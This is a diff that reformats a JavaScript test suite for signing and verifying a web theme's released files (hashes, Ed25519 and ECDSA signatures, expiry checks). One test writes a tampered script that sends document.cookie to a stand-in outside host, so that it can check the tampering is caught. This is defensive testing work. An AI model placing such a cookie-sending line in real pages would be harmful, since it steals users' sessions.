@@ -5,8 +5,21 @@ import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import {
-  checkSignedDist, keyIdOf, publicKeyText, readSignedList, releaseFields, RELEASE_VALID_DAYS, servedFiles, sha384Of, signatureHolds, signDist, signedDocumentOf, signedFileHashes,
-  signedFilesOf, signingKeyOf, SIGNED_FILES_NAME,
+  checkSignedDist,
+  keyIdOf,
+  publicKeyText,
+  readSignedList,
+  releaseFields,
+  RELEASE_VALID_DAYS,
+  servedFiles,
+  sha384Of,
+  signatureHolds,
+  signDist,
+  signedDocumentOf,
+  signedFileHashes,
+  signedFilesOf,
+  signingKeyOf,
+  SIGNED_FILES_NAME,
 } from './release-signing.mjs';
 
 /** A release of the theme Acme, signed at a fixed moment. */
@@ -33,17 +46,28 @@ const p256 = () => generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey
 test('lists every served file with its SHA-384, but not the compressed copies nor the list itself', () => {
   const { dir } = dist();
   signDist(dir, ed25519(), RELEASE);
-  assert.deepEqual(servedFiles(dir), ['mf-manifest.json', 'remoteEntry.js', 'static/css/async/pages-login.0123abcd.css', 'static/js/async/pages-login.0123abcd.js']);
+  assert.deepEqual(servedFiles(dir), [
+    'mf-manifest.json',
+    'remoteEntry.js',
+    'static/css/async/pages-login.0123abcd.css',
+    'static/js/async/pages-login.0123abcd.js',
+  ]);
   const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
   const { format, files, theme, sequence, expires } = JSON.parse(document.signed);
   assert.equal(format, 'member-signed-files/2');
-  assert.deepEqual({ theme, sequence, expires }, { theme: 'Acme', sequence: Date.parse('2026-03-01T00:00:00Z'), expires: '2026-05-30T00:00:00.000Z' });
+  assert.deepEqual(
+    { theme, sequence, expires },
+    { theme: 'Acme', sequence: Date.parse('2026-03-01T00:00:00Z'), expires: '2026-05-30T00:00:00.000Z' },
+  );
   assert.deepEqual(Object.keys(files), servedFiles(dir));
   assert.equal(files['remoteEntry.js'], sha384Of(Buffer.from('window.remote_acme = {};')));
   assert.match(files['remoteEntry.js'], /^sha384-[A-Za-z0-9+/]{64}$/);
 });
 
-for (const [name, make, algorithm] of [['Ed25519', ed25519, 'Ed25519'], ['ECDSA P-256', p256, 'ECDSA-P256']]) {
+for (const [name, make, algorithm] of [
+  ['Ed25519', ed25519, 'Ed25519'],
+  ['ECDSA P-256', p256, 'ECDSA-P256'],
+]) {
   test(`${name}: the signature holds for its own key and for no other`, () => {
     const { dir } = dist();
     const key = make();
@@ -65,7 +89,12 @@ for (const [name, make, algorithm] of [['Ed25519', ed25519, 'Ed25519'], ['ECDSA 
     const params = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', namedCurve: 'P-256' };
     const publicKey = await webcrypto.subtle.importKey('spki', spki, params, false, ['verify']);
     const verifyParams = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', hash: 'SHA-256' };
-    const ok = await webcrypto.subtle.verify(verifyParams, publicKey, Buffer.from(document.signature, 'base64'), new TextEncoder().encode(document.signed));
+    const ok = await webcrypto.subtle.verify(
+      verifyParams,
+      publicKey,
+      Buffer.from(document.signature, 'base64'),
+      new TextEncoder().encode(document.signed),
+    );
     assert.equal(ok, true);
   });
 }
@@ -76,7 +105,10 @@ test('a changed, missing or unlisted file is named', () => {
   signDist(dir, key, RELEASE);
   write('remoteEntry.js', 'window.remote_acme = {}; fetch("https://elsewhere.example/?" + document.cookie);');
   write('static/js/extra.js', 'evil()');
-  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), ['remoteEntry.js differs from the signed list', 'static/js/extra.js is served but not listed']);
+  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), [
+    'remoteEntry.js differs from the signed list',
+    'static/js/extra.js is served but not listed',
+  ]);
 });
 
 test('the signed text is what was signed: editing the list breaks the signature', () => {
@@ -107,13 +139,18 @@ test('a public key reads as the base64 of its SPKI, which names its algorithm', 
 test("files held in memory (a theme's dev server) sign to the same document as a folder holding them", () => {
   const { dir } = dist();
   const key = ed25519();
-  const entries = servedFiles(dir).reverse().map((file) => [file, readFileSync(path.join(dir, file))]);
+  const entries = servedFiles(dir)
+    .reverse()
+    .map((file) => [file, readFileSync(path.join(dir, file))]);
   // What a folder's list leaves out, the in-memory list leaves out too: compressed copies and the list itself.
   entries.push(['remoteEntry.js.br', 'compressed'], [SIGNED_FILES_NAME, '{}'], ['static/js/x.js.gz', 'compressed']);
   assert.deepEqual(signedDocumentOf(entries, key, RELEASE), signedFilesOf(dir, key, RELEASE));
   // A string's bytes are its UTF-8.
   const [first] = entries;
-  assert.equal(JSON.parse(signedDocumentOf([[first[0], first[1].toString('utf8')]], key, RELEASE).signed).files[first[0]], sha384Of(first[1]));
+  assert.equal(
+    JSON.parse(signedDocumentOf([[first[0], first[1].toString('utf8')]], key, RELEASE).signed).files[first[0]],
+    sha384Of(first[1]),
+  );
 });
 
 test('a signature holds for a signed list by one of the keys, and for nothing else that could be answered in its place', () => {
@@ -135,9 +172,15 @@ test("a reader of a release goes by the list's files once its signature holds, a
   assert.equal(hashes.get('remoteEntry.js'), sha384Of(Buffer.from('window.remote_acme = {};')));
   assert.deepEqual([...hashes.keys()], servedFiles(dir));
   assert.throws(() => signedFileHashes(document, [publicKeyText(ed25519())]), /not by any of the keys/);
-  assert.throws(() => signedFileHashes({ ...document, signed: document.signed.replace('remoteEntry.js', 'remoteEntry.jx') }, [publicKeyText(key)]), /not by any of the keys/);
+  assert.throws(
+    () => signedFileHashes({ ...document, signed: document.signed.replace('remoteEntry.js', 'remoteEntry.jx') }, [publicKeyText(key)]),
+    /not by any of the keys/,
+  );
   // As the browser holds a release: of the theme it is drawn for, and not expired.
-  assert.throws(() => signedFileHashes(document, [publicKeyText(key)], { theme: 'PRE8', now: Date.parse('2026-03-02T00:00:00Z') }), /a release of Acme, not of PRE8/);
+  assert.throws(
+    () => signedFileHashes(document, [publicKeyText(key)], { theme: 'PRE8', now: Date.parse('2026-03-02T00:00:00Z') }),
+    /a release of Acme, not of PRE8/,
+  );
   assert.throws(() => signedFileHashes(document, [publicKeyText(key)], { theme: 'Acme', now: Date.parse(RELEASE.expires) }), /expired/);
 });
 
@@ -145,21 +188,33 @@ test('a release names its theme, its sequence (the signing time unless given) an
   const now = Date.parse('2026-03-01T12:00:00Z');
   assert.equal(RELEASE_VALID_DAYS, 90);
   assert.deepEqual(releaseFields({ theme: 'PRE8', now }), { theme: 'PRE8', sequence: now, expires: '2026-05-30T12:00:00.000Z' });
-  assert.deepEqual(releaseFields({ theme: 'PRE8', now, sequence: 7, validDays: 1 }), { theme: 'PRE8', sequence: 7, expires: '2026-03-02T12:00:00.000Z' });
+  assert.deepEqual(releaseFields({ theme: 'PRE8', now, sequence: 7, validDays: 1 }), {
+    theme: 'PRE8',
+    sequence: 7,
+    expires: '2026-03-02T12:00:00.000Z',
+  });
   assert.throws(() => releaseFields({ now }), /names the theme it is for/);
   assert.throws(() => releaseFields({ theme: 'PRE8', sequence: -1 }), /positive whole number/);
   assert.throws(() => releaseFields({ theme: 'PRE8', expires: 'soon' }), /expires at a time/);
 });
 
-test("a signed list reads back as signed, and one of the earlier format (no theme, sequence or expiry) is named as such", () => {
+test('a signed list reads back as signed, and one of the earlier format (no theme, sequence or expiry) is named as such', () => {
   const { dir } = dist();
   const key = ed25519();
   const document = signedFilesOf(dir, key, RELEASE);
   assert.deepEqual({ ...readSignedList(document), files: undefined }, { format: 'member-signed-files/2', ...RELEASE, files: undefined });
   const older = { ...document, signed: JSON.stringify({ format: 'member-signed-files/1', files: {} }) };
-  assert.throws(() => readSignedList(older), /format member-signed-files\/1, not member-signed-files\/2: sign it again \(npm run release-key -- renew/);
-  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), [`${SIGNED_FILES_NAME}: ENOENT: no such file or directory, open '${path.join(dir, SIGNED_FILES_NAME)}'`]);
+  assert.throws(
+    () => readSignedList(older),
+    /format member-signed-files\/1, not member-signed-files\/2: sign it again \(npm run release-key -- renew/,
+  );
+  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), [
+    `${SIGNED_FILES_NAME}: ENOENT: no such file or directory, open '${path.join(dir, SIGNED_FILES_NAME)}'`,
+  ]);
   signDist(dir, key, RELEASE);
-  assert.equal(signingKeyOf(JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8')), [publicKeyText(p256()), publicKeyText(key)]), publicKeyText(key));
+  assert.equal(
+    signingKeyOf(JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8')), [publicKeyText(p256()), publicKeyText(key)]),
+    publicKeyText(key),
+  );
   assert.equal(signingKeyOf(document, [publicKeyText(p256())]), null);
 });
